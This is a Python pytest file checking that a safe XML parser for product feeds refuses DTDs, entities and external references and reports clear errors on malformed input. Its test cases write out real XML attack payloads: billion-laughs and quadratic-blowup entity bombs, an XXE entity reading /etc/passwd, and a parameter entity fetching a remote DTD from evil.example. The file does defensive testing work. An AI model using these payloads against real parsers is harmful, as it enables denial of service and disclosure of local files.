"""``connectors.xml_safe``: DTDs, entities and external references are refused before use."""

from __future__ import annotations

import pytest
from loopback import serve_routes

from connectors.base import ConnectorError
from connectors.xml_safe import elements, local_name, namespace, parse_xml

G = "http://base.google.com/ns/1.0"


def test_a_feed_parses_with_its_namespaces() -> None:
    root = parse_xml(
        f'<?xml version="1.0" encoding="ISO-8859-1"?><rss xmlns:g="{G}"><channel><item>'
        "<g:id>1</g:id><g:title>Caf\xe9 &amp; th\xe9</g:title></item></channel></rss>".encode(
            "latin-1"
        ),
        "feed.xml",
    )
    title = root.find(f"channel/item/{{{G}}}title")
    assert title is not None and title.text == "Café & thé"
    assert (local_name(title.tag), namespace(title.tag)) == ("title", G)
    assert (local_name("item"), namespace("item")) == ("item", None)


@pytest.mark.parametrize(
    "document",
    [
        # billion laughs: entities expanding to entities
        b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;</r>',
        # quadratic blowup: one big entity used many times
        b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 10_000 + b'">]><r>' + b"&a;" * 1000 + b"</r>",
        # XXE: an external entity reading a local file
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        # a parameter entity pulling a remote DTD
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
        # a bare DOCTYPE: refused too, no DTD is ever needed by a feed
        b"<!DOCTYPE rss><rss/>",
    ],
    ids=["billion-laughs", "quadratic", "xxe-file", "parameter-entity", "doctype"],
)
def test_dtds_and_entities_are_refused(document: bytes) -> None:
    with pytest.raises(ConnectorError) as refused:
        parse_xml(document, "https://feeds.example/products.xml")
    message = str(refused.value)
    assert message.startswith("refused https://feeds.example/products.xml: the document declares")
    assert "may not use DTDs or entities" in message


def test_an_external_dtd_is_never_fetched() -> None:
    with serve_routes({"/evil.dtd": (200, {}, '<!ENTITY x "pwned">')}) as base:
        document = f'<!DOCTYPE r SYSTEM "{base}/evil.dtd"><r>&x;</r>'.encode()
        with pytest.raises(ConnectorError, match="declares a DTD"):
            parse_xml(document, "feed.xml")
        assert base.requests == []


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"<rss><channel><item></channel></rss>", "line 1, column 31 (Opening and ending tag"),
        (b"<rss><channel><item><title>half", "line 1, column 32 (Premature end of data"),
        (b"<rss>&undeclared;</rss>", "line 1, column 18 (Entity 'undeclared' not defined)"),
        (b"", "line 1, column 1 (Document is empty)"),
        (b"id\ttitle\n1\tMiel\n", "line 1, column 1 (Start tag expected"),
    ],
)
def test_malformed_xml_is_a_clear_error(document: bytes, reason: str) -> None:
    with pytest.raises(ConnectorError) as failed:
        parse_xml(document, "feed.xml")
    assert str(failed.value).startswith(f"cannot parse feed.xml: not well-formed XML at {reason}")


def test_absurd_nesting_is_refused_by_the_parser_limits() -> None:
    deep = b"<a>" * 300 + b"</a>" * 300
    with pytest.raises(ConnectorError, match="Excessive depth in document"):
        parse_xml(deep, "feed.xml")
    assert parse_xml(b"<a>" * 200 + b"</a>" * 200, "feed.xml").tag == "a"


def test_comments_and_processing_instructions_are_not_elements() -> None:
    root = parse_xml(b"<rss><!-- note --><?pi x?><channel/></rss>", "feed.xml")
    assert [child.tag for child in elements(root)] == ["channel"]


def test_a_doctype_inside_a_description_is_only_text() -> None:
    root = parse_xml(b"<rss><d><![CDATA[<!DOCTYPE html><p>x</p>]]></d></rss>", "feed.xml")
    assert root[0].text == "<!DOCTYPE html><p>x</p>"


def test_a_doctype_the_byte_scan_cannot_see_is_still_refused() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.encode("utf-16")
    with pytest.raises(ConnectorError, match="declares a DTD"):
        parse_xml(document, "feed.xml")
